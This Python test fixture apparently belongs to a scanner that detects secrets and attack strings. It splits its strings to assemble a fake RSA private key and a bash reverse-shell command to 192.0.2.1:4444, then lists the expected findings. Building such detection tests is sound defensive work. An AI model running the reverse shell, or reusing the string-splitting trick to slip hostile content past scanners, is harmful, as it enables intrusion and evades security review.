# SPDX-License-Identifier: Apache-2.0
"""The signs are put together here, so that nobody's scanner finds them in this repository."""

from tests.domain.scans.tools.samples import Sample

_BODY = b"MIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n"
KEY = b"-----BEGIN RSA %s KEY-----\n" % b"PRIVATE" + _BODY * 2
SHELL = b"bash -i >& /dev/%s/192.0.2.1/4444 0>&1\n" % b"tcp"
FLAWED = b"# notes\n" + KEY + SHELL
SAMPLE = Sample(
    suffix=b".txt",
    flawed=FLAWED,
    found=frozenset({("private_key", 2), ("reverse_shell", 5)}),
    clean=b"def add(one, two):\n    return one + two\n",
    broken=(),
    settings={b".gitattributes": b"* binary\n"},
)
